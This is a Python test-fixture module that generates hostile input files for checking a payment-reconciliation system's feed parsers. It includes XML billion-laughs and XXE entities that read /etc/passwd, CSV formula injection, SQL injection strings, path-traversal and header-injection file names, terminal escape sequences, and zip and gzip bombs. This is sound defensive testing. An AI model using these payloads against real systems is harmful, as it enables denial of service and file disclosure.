"""Files made to harm: each a name, a feed that is to read it, and its bytes, made when they are asked for.

Three sources: what harms a family of formats (JSON, XML, columns, fixed places), what spoils any sample that the
contract has, and names and archives that play tricks. Nothing here is larger than some MiB on disk.
"""

import gzip
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

import pyarrow as pa
import pyarrow.parquet as pq

from recoup.formats import http_message
from recoup.intake.conformance.samples import FILE, Sample, Samples, read_samples
from recoup.partners.contract import FileFeed, RecordFeed, TableFeed
from recoup.partners.registry import built_in

SAMPLES = Path(__file__).parents[1] / "contract" / "samples"
MIB = 1 << 20
EVERY = 4
FORMULA = '=HYPERLINK("http://example.invalid?x="&A1,"click")'
ESCAPES = "\x1b[2J\x1b]0;owned\x07\u202egnp.exe"
PATHS = "../../../../etc/passwd"


class Hostile(NamedTuple):
    """One file."""

    name: str
    partner: str
    feed: str
    file: str
    """What it is called when it arrives."""
    make: Callable[[], bytes]


def all_files() -> list[Hostile]:
    """Give every hostile file, in an order that stays."""
    return [*_of_families(), *_of_samples(), *_of_names(), *_of_archives()]


JSON: dict[str, Callable[[], bytes]] = {
    "arrays in arrays": lambda: b"[" * (MIB - 1),
    "objects in objects": lambda: b'{"a":' * 150_000,
    "closed arrays in arrays": lambda: b"[" * 100_000 + b"]" * 100_000,
    "number of a million digits": lambda: b'{"object":"event","created":' + b"9" * 900_000 + b"}",
    "number with an endless exponent": lambda: b'{"object":"list","data":[{"amount":1e999999999}]}',
    "text of a mebibyte": lambda: b'{"id":"' + b"x" * (MIB - 20) + b'"}',
    "a hundred thousand keys": lambda: json.dumps({f"k{n}": n for n in range(60_000)}).encode(),
    "a key twice": lambda: b'{"object":"event","object":"list","data":[]}',
    "half a character": lambda: b'{"id":"\\ud800","object":"event"}',
    "a NUL": lambda: b'{"id":"a\0b","object":"event"}',
    "an escaped NUL": lambda: (
        b'{"object":"event","id":"a\\u0000b","type":"charge.dispute.created","created":1,"data":{}}'
    ),
    "not a number": lambda: b'{"object":"list","data":[NaN, Infinity, -Infinity]}',
    "an unclosed text": lambda: b'{"id":"' + b'\\"' * 400_000,
    "only blanks": lambda: b" " * (MIB - 1),
    "nothing": lambda: b"",
    "a list of nulls": lambda: b"[" + b"null," * 180_000 + b"null]",
    "UTF-16": lambda: '{"object":"event"}'.encode("utf-16"),
    "a page too large": lambda: b'{"object":"list","data":["' + b"x" * (33 * MIB) + b'"]}',
}
LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
XML: dict[str, Callable[[], bytes]] = {
    "a billion laughs": lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">' + LAUGHS + b"]><a>&l9;</a>",
    "one entity a thousand times": lambda: (
        b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 100_000 + b'">]><a>' + b"&b;" * 10_000 + b"</a>"
    ),
    "a file of ours": lambda: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a document type elsewhere": lambda: b'<!DOCTYPE a SYSTEM "http://example.invalid/x.dtd"><a/>',
    "elements in elements": lambda: b"<a>" * 300_000,
    "closed elements in elements": lambda: b"<Document>" * 100_000 + b"</Document>" * 100_000,
    "a text of mebibytes": lambda: b"<Document><a>" + b"x" * (3 * MIB) + b"</a></Document>",
    "an attribute of mebibytes": lambda: b'<Document a="' + b"x" * (3 * MIB) + b'"/>',
    "many attributes": lambda: b"<Document " + b" ".join(b'a%d="1"' % n for n in range(60_000)) + b"/>",
    "many elements": lambda: b"<Document>" + b"<a/>" * 500_000 + b"</Document>",
    "an unclosed comment": lambda: b"<Document><!--" + b"-" * MIB,
    "an unclosed section": lambda: b"<Document><![CDATA[" + b"]" * MIB,
    "a NUL": lambda: b"<Document>\0</Document>",
    "an instruction": lambda: b'<?xml-stylesheet href="http://example.invalid/x.xsl"?><Document/>',
    "an include": lambda: b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
    "another encoding than it says": lambda: '<?xml version="1.0" encoding="UTF-8"?><a>é</a>'.encode("latin-1"),
}
COLUMNS: dict[str, Callable[[str, str], bytes]] = {
    "an unclosed quote": lambda head, row: f'{head}\n"{row}\n{row}\n'.encode() * 2_000,
    "a quote that eats the file": lambda head, row: f'{head}\n{row}\n"'.encode() + b"x\n" * MIB,
    "a cell of mebibytes": lambda head, row: f"{head}\n{'x' * (3 * MIB)}{row}\n".encode(),
    "a hundred thousand columns": lambda head, row: f"{head}{',x' * 100_000}\n{row}{',1' * 100_000}\n".encode(),
    "a NUL": lambda head, row: f"{head}\n{row[:5]}\0{row[5:]}\n".encode(),
    "numbers of many digits": lambda head, row: f"{head}\n{','.join(['9' * 5_000] * row.count(','))},9\n".encode(),
    "exponents": lambda head, row: f"{head}\n{','.join(['1e308'] * (row.count(',') + 1))}\n".encode(),
    "formulas": lambda head, row: f"{head}\n{','.join([_quoted(FORMULA)] * (row.count(',') + 1))}\n".encode(),
    "escapes of a terminal": lambda head, row: (
        f"{head}\n{','.join([_quoted(ESCAPES)] * (row.count(',') + 1))}\n".encode()
    ),
    "paths": lambda head, row: f"{head}\n{','.join([PATHS] * (row.count(',') + 1))}\n".encode(),
    "statements": lambda head, row: (
        f"{head}\n{','.join(['x; drop table dispute; --'] * (row.count(',') + 1))}\n".encode()
    ),
    "a column twice": lambda head, row: f"{head},{head}\n{row},{row}\n".encode(),
    "only delimiters": lambda head, row: b"," * MIB,
    "only line ends": lambda head, row: b"\n" * MIB,
    "only quotes": lambda head, row: b'"' * MIB,
    "carriage returns": lambda head, row: f"{head}\r{row}\r".encode() * 100,
    "UTF-16 without a mark": lambda head, row: f"{head}\n{row}\n".encode("utf-16-le"),
    "UTF-16 cut within a character": lambda head, row: f"{head}\n{row}\n".encode("utf-16")[:-1],
    "bytes that are no text": lambda head, row: f"{head}\n".encode() + bytes(range(256)) * 1_000,
    "a header alone, without an end": lambda head, row: head.encode(),
    "rows of other lengths": lambda head, row: f"{head}\n".encode() + b"1\n1,2\n1,2,3\n" * 20_000,
    "a row again and again": lambda head, row: f"{head}\n".encode() + f"{row}\n".encode() * 5_000,
    "Parquet without an end": lambda head, row: b"PAR1" + b"\0" * 1_000,
    "Parquet with a footer that lies": lambda head, row: b"PAR1" + b"\xff" * 100 + b"\xff\xff\xff\x7fPAR1",
    "Parquet that unpacks into a gibibyte": lambda head, row: _parquet(
        {c: ["0" * MIB] * 64 for c in head.split(",")[:4]}
    ),
    "Parquet of millions of equal rows": lambda head, row: _parquet(
        {c: ["x"] * 5_000_000 for c in head.split(",")[:1]}
    ),
}
PLACES: dict[str, Callable[[], bytes]] = {
    "a line of mebibytes": lambda: b"6" * (3 * MIB),
    "lines without end": lambda: b"\n" * MIB,
    "lengths of nothing": lambda: b"\0" * (2 * MIB),
    "lengths of everything": lambda: b"\xff" * (2 * MIB),
    "a length and nothing": lambda: b"\x7f\xff\xff\xff1644" + b"\xff" * 16,
    "a message with every field": lambda: b"\0\0\4\0" + b"1240" + b"\xff" * 16 + b"9" * 1_000,
    "fields in fields": lambda: b"\0\0\3\350" + b"1644" + b"\x80" + b"\0" * 15 + b"999" * 330,
    "headers alone": lambda: (b"101 091000019 1234567891901010000A094101" + b" " * 54 + b"\n") * 5_000,
    "trailers alone": lambda: b"9" * 94 + b"\n" + (b"9" * 94 + b"\n") * 20_000,
    "entries of nobody": lambda: (b"626" + b"9" * 91 + b"\n") * 20_000,
    "tags without end": lambda: b":20:X\r\n:25:Y\r\n:28C:1/1\r\n" + b":61:0901010101C9,NTRF\r\n" * 40_000,
    "a tag that never ends": lambda: b":20:X\r\n:86:" + b"?20x\r\n" * 300_000,
    "amounts of many digits": lambda: b":20:X\r\n:25:Y\r\n:28C:1\r\n:60F:C200101EUR" + b"9" * 500_000 + b",00\r\n",
    "days that are none": lambda: b":20:X\r\n:25:Y\r\n:28C:1\r\n:60F:C209999EUR1,00\r\n:62F:C200230EUR1,00\r\n-",
    "continuations without end": lambda: (
        b"01,A,B,200101,0000,1,80,,2/\n02,A,B,1,200101,,EUR,/\n" + b"88,x/\n" * 200_000
    ),
    "counts of many digits": lambda: b"01,A,B,200101,0000,1,,,2/\n99," + b"9" * 500_000 + b",1,1/\n",
    "escapes of a terminal": lambda: (ESCAPES * 5_000).encode(),
    "nothing": lambda: b"",
}
SPOILED: dict[str, Callable[[bytes], bytes]] = {
    "a NUL in the middle": lambda body: body[: len(body) // 2] + b"\0" * 64 + body[len(body) // 2 :],
    "nines for digits": lambda body: bytes(57 if 48 <= byte <= 57 else byte for byte in body),
    "repeated": lambda body: body * min(300, 1 + MIB // max(1, len(body))),
    "upside down": lambda body: body[::-1],
    "high bits": lambda body: bytes(byte | 0x80 for byte in body),
    "its first half twice": lambda body: body[: len(body) // 2] * 2,
}


def _of_families() -> Iterator[Hostile]:
    """Give each kind for some feeds of its family, other kinds for others: so that all feeds have their turn."""
    seen: dict[str, int] = {}
    for hostile in _of_all_families():
        what = hostile.name.partition(": ")[2]
        seen[what] = seen.get(what, sum(map(ord, what)) % EVERY) + 1
        if seen[what] % EVERY == 0:
            yield hostile


def _of_all_families() -> Iterator[Hostile]:
    for partner in built_in():
        for name, feed in partner.feeds.items():
            if isinstance(feed, RecordFeed) and feed.medium != "file":
                kinds: dict[str, Callable[[], bytes]] = JSON
            elif isinstance(feed, RecordFeed):
                kinds = XML | {f"JSON: {what}": make for what, make in list(JSON.items())[:5]}
            elif isinstance(feed, FileFeed):
                kinds = PLACES | {f"XML: {what}": make for what, make in XML.items()}
            else:
                kinds = _columns_of(feed)
            for what, make in kinds.items():
                yield Hostile(f"{partner.name}/{name}: {what}", partner.name, name, "x.dat", make)


def _columns_of(feed: TableFeed) -> dict[str, Callable[[], bytes]]:
    head = feed.delimiter.join(feed.layouts[0].required)
    row = feed.delimiter.join("x" for _ in feed.layouts[0].required)

    def bound(make: Callable[[str, str], bytes]) -> Callable[[], bytes]:
        return lambda: make(head, row)

    return {what: bound(make) for what, make in COLUMNS.items()}


def _of_samples() -> Iterator[Hostile]:
    for partner in built_in():
        folder = SAMPLES / partner.name
        if (folder / FILE).is_file():
            for feed, sample in _one_of_each(read_samples(folder)).items():
                body = _body(folder / sample.file)
                for what, spoil in list(SPOILED.items())[len(feed) % 2 :: 2]:
                    name = f"{partner.name}/{feed}: a sample, {what}"
                    yield Hostile(name, partner.name, feed, Path(sample.file).name, _bound(spoil, body))


def _bound(spoil: Callable[[bytes], bytes], body: bytes) -> Callable[[], bytes]:
    return lambda: spoil(body)


def _one_of_each(samples: Samples) -> dict[str, Sample]:
    return {sample.feed: sample for sample in reversed(samples.sample)}


def _body(path: Path) -> bytes:
    raw = path.read_bytes()
    message = http_message.parse(raw) if path.suffix == ".http" else None
    return message.body if isinstance(message, http_message.HttpMessage) else raw


def _of_names() -> Iterator[Hostile]:
    names = (
        PATHS,
        "/etc/passwd",
        "settlement_detail_report_batch_" + "9" * 400 + ".csv",
        "statement_2026-99-99_99999999999999999999.csv",
        "x\r\nSet-Cookie: a=b.csv",
        ESCAPES,
        "4111111111111111.csv",
        "-" * 250,
        "'; drop table delivery; --",
    )
    for partner, feed in (("adyen", "settlement_detail"), ("bank", "statement"), ("stripe", "disputes")):
        for file in names:
            yield Hostile(f"{partner}/{feed}: named {file[:30]!r}", partner, feed, file, lambda: b"a,b\n1,2\n")


def _of_archives() -> Iterator[Hostile]:
    archives = {
        "a zip bomb": _zip_bomb,
        "a gzip bomb": lambda: gzip.compress(bytes(64 * MIB)),
        "a zip in a zip": _zip_in_zip,
    }
    for partner, feed in (("adyen", "settlement_detail"), ("stripe", "webhook"), ("bank", "mt940"), ("ach", "returns")):
        for what, make in archives.items():
            yield Hostile(f"{partner}/{feed}: {what}", partner, feed, "x.csv.gz", make)


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(4):
            archive.writestr(f"../../{number}.csv", bytes(16 * MIB))
    return out.getvalue()


def _zip_in_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("inner.zip", _zip_bomb())
    return out.getvalue()


def _parquet(columns: dict[str, list[str]]) -> bytes:
    out = io.BytesIO()
    table = {
        name: pa.DictionaryArray.from_arrays(pa.array([0] * len(v), pa.int32()), v[:1]).cast(pa.large_string())
        for name, v in columns.items()
    }
    pq.write_table(pa.table(table), out, compression="zstd")
    return out.getvalue()


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'
